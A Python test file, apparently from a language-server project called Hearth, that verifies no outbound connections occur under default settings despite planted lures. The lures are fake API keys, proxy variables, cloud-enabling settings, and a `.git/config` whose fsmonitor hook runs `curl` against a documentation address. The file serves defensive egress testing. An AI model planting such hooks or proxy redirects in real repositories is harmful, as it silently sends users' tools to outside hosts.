"""With default settings nothing reaches for any host but this machine: not at import, not from any process, in a day's
worth of everything that Hearth does. Threats A09 and A18, and the promise that a user can check from outside.

Controls: the defaults of `settings` (the cloud is off, no index server, no own hosts), `trust_env` off in every HTTP
client, and the courier that is not started. `test_a_connect_is_seen` shows that the watch sees what there is.
"""

import asyncio
import os
import shutil
import sys
from pathlib import Path
from typing import Any

from lsp.lsp_client import SERVER_CALLS, Client, environment, frame
from threats.scene import Capture
from threats.wires import Watch, run

ROOT = Path(__file__).resolve().parents[2]
FAR = "192.0.2.1"
"""An address for documentation: nobody is there."""
QUIET_S = 3.5
"""Longer than what the server waits for before it works at rest."""
ASKED_S = 10
DAY_S = 100
# What a user answers who agrees to everything.
ANSWERS: dict[str, Any] = {
    "window/showMessageRequest": {"title": "Send"},
    "hearth/input": {"value": "what is this?"},
    "workspace/applyEdit": {"applied": False},
    "workspace/configuration": [{"enabled": True}],
}


class Willing(Client):
    """Answers whatever the server asks."""

    async def _take(self, message: dict[str, Any]) -> None:
        if "id" in message and "method" in message and message["method"] not in SERVER_CALLS:
            answer = ANSWERS.get(message["method"])
            await self.raw(frame({"jsonrpc": "2.0", "id": message["id"], "result": answer}))
        else:
            await super()._take(message)


def surroundings(home: Path) -> dict[str, str]:
    """A machine that tempts: a key for the cloud, proxies, an index and models elsewhere for whoever reads them."""
    far = f"http://{FAR}:9"
    tempting = {
        "OPENROUTER_API_KEY": "sk-or-v1-test", "OPENAI_API_KEY": "sk-test", "ANTHROPIC_API_KEY": "sk-ant-test",
        "HTTP_PROXY": far, "HTTPS_PROXY": far, "ALL_PROXY": far, "http_proxy": far, "https_proxy": far,
        "all_proxy": far, "OPENAI_BASE_URL": far, "OLLAMA_HOST": far, "QDRANT_URL": far, "OPENROUTER_API_BASE": far,
        "LITELLM_PROXY_API_BASE": far, "SENTRY_DSN": f"http://key@{FAR}:9/1", "OTEL_EXPORTER_OTLP_ENDPOINT": far,
    }  # fmt: skip
    return {**environment(home), **tempting, "NO_PROXY": "", "no_proxy": ""}


def workspace(folder: Path) -> None:
    """Part of our own sources, with settings and `.env` files that would send everything elsewhere."""
    folder.mkdir()
    for path in sorted((ROOT / "server/hearth/core").glob("*.py"))[:15]:
        shutil.copy(path, folder)
    far = f"http://{FAR}:9"
    (folder / ".env").write_text(f"OPENROUTER_API_KEY=sk-or-v1-1\nOPENAI_BASE_URL={far}\nHTTPS_PROXY={far}\n")
    (folder / "settings.toml").write_text(f'[cloud]\nenabled = true\nbase_url = "{far}"\n')
    for name, text in (
        (".vscode/settings.json", f'{{"hearth.cloud.enabled": true, "hearth.cloud.base_url": "{far}"}}'),
        (".git/config", f'[core]\n\tfsmonitor = "curl {far}"\n[remote "origin"]\n\turl = {far}/a/b.git\n'),
        (".git/HEAD", "ref: refs/heads/main\n"),
    ):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)


async def a_day(client: Client, folder: Path) -> None:
    """What an editor asks in a day: opening, typing, turning elsewhere, saving, resting, every command there is."""
    done = await client.initialize(
        workspaceFolders=[{"uri": folder.as_uri(), "name": "work"}], rootUri=folder.as_uri(), initializationOptions={}
    )
    files = sources(folder)[:4]
    for path in files:
        await client.open(path.as_uri(), path.read_text("utf-8"))
    await client.open(f"{folder.as_uri()}/.env", (folder / ".env").read_text(), "dotenv")
    uri = files[0].as_uri()
    version = 1
    for key in "def total(prices):\n    return ":
        version += 1
        await client.change(uri, version, {"range": {"start": at(0), "end": at(0)}, "text": key})
        if version % 8 == 0:
            await client.complete(uri, 0, 0)
            await client.complete(f"{folder.as_uri()}/.env", 0, 5)
    await client.notify("textDocument/didSave", {"textDocument": {"uri": uri}})
    await client.notify("hearth/focus", {"uri": files[1].as_uri(), "selection": {"start": at(3), "end": at(3)}})
    await client.notify(
        "workspace/didChangeConfiguration",
        {"settings": {"hearth": {"cloud": {"enabled": True, "base_url": f"http://{FAR}:9"}}}},
    )
    await client.request("hearth/status")
    await client.request("hearth/search", {"query": "where are secrets masked", "limit": 5})
    argument = {"uri": uri, "selection": {"start": at(0), "end": at(2)}, "prompt": "what is this?"}
    for name in done["capabilities"]["executeCommandProvider"]["commands"]:
        if name != "hearth.stop":
            await asyncio.wait((asyncio.ensure_future(command(client, name, argument)),), timeout=ASKED_S)
    await client.request("workspace/executeCommand", {"command": "hearth.stop", "arguments": []})
    await asyncio.sleep(QUIET_S)
    await client.notify("textDocument/didClose", {"textDocument": {"uri": uri}})
    await client.request("hearth/status")


async def command(client: Client, name: str, argument: object) -> None:
    """Whatever comes of it: without a model most can only say so."""
    request = await client.ask("workspace/executeCommand", {"command": name, "arguments": [argument]})
    await client.answer(request)


def sources(folder: Path) -> list[Path]:
    return sorted(folder.glob("*.py"))


def at(line: int) -> dict[str, int]:
    return {"line": line, "character": 0}


async def test_a_day_with_default_settings_reaches_for_no_other_host(tmp_path: Path) -> None:
    folder, home, watch = tmp_path / "work", tmp_path / "home", Watch(tmp_path / "traces")
    workspace(folder)
    hearth = (sys.executable, "-m", "hearth")
    process = await asyncio.create_subprocess_exec(
        *watch.argv(*hearth, "serve"),
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL,
        env=surroundings(home), cwd=folder,
    )  # fmt: skip
    client = Willing(process)
    first = sources(folder)[0]
    commands = (
        ("index", "."), ("search", "secrets", "--json"), ("complete", first.name, "3", "0", "--json"),
        ("complete", ".env", "0", "5"), ("doctor", "--json"), ("models", "list"), ("ledger", "list"),
        ("ledger", "verify"), ("ledger", "costs"), ("ask", "what is this?"), ("ask", "what?", "--cloud", "--yes"),
        ("task", "rename it", "--cloud", "--yes"), ("bench",), ("--version",),
    )  # fmt: skip
    try:
        async with asyncio.timeout(DAY_S):
            await a_day(client, folder)
            await client.stop()
        codes: dict[tuple[str, ...], int] = {}
        for arguments in commands:
            ran = await asyncio.to_thread(run, watch, (*hearth, *arguments), env=surroundings(home), cwd=folder)
            codes[arguments] = ran.returncode
        everything = "import hearth, pkgutil, importlib\n" + (
            "for one in pkgutil.walk_packages(hearth.__path__, 'hearth.'):\n"
            "    one.name.endswith('__main__') or importlib.import_module(one.name)\n"
        )
        imported = await asyncio.to_thread(
            run, watch, (sys.executable, "-c", everything), env=surroundings(home), cwd=folder
        )
        assert imported.returncode == 0, imported.stderr
    finally:
        await client.kill()
        watch.end()
    assert watch.far() == []
    assert codes[("doctor", "--json")] == codes[("index", ".")] == codes[("ledger", "verify")] == 0
    if watch.exact:
        assert any(call == "connect" for call, _ in watch.calls()), "servers on this machine were looked for"


async def test_what_is_sent_to_a_server_here_takes_no_proxy(tmp_path: Path) -> None:
    """With a server that answers on this machine, and proxies in the environment."""
    folder, home, watch = tmp_path / "work", tmp_path / "home", Watch(tmp_path / "traces")
    workspace(folder)
    async with Capture() as here:
        for kind in ("openai", "llamacpp", "ollama"):
            (home / "config").mkdir(parents=True, exist_ok=True)
            url = f"http://127.0.0.1:{here.port}"
            (home / "config/settings.toml").write_text(f'[[backends]]\nkind = "{kind}"\nurl = "{url}"\n')
            asked = (sys.executable, "-m", "hearth", "doctor", "--json")
            await asyncio.to_thread(run, watch, asked, env=surroundings(home), cwd=folder)
        assert here.received.count(b"HTTP/1.1\r\n") >= 3, "each was asked what it is"
    watch.end()
    assert watch.far() == []


async def test_a_connect_is_seen(tmp_path: Path) -> None:
    """Also from a grandchild, to a host that nobody can reach."""
    watch = Watch(tmp_path)
    far = (
        "import socket\ns = socket.socket()\ns.settimeout(0.3)\ntry:\n"
        f"    s.connect(('{FAR}', 9))\nexcept OSError:\n    pass\n"
    )
    if not watch.exact:
        far += "import time; time.sleep(0.1)\n"
    start = f"import subprocess, sys; subprocess.run([sys.executable, '-I', '-c', {far!r}])"
    await asyncio.to_thread(run, watch, (sys.executable, "-c", start), env=dict(os.environ))
    watch.end()
    if watch.exact:
        assert watch.far() == [("connect", FAR)]
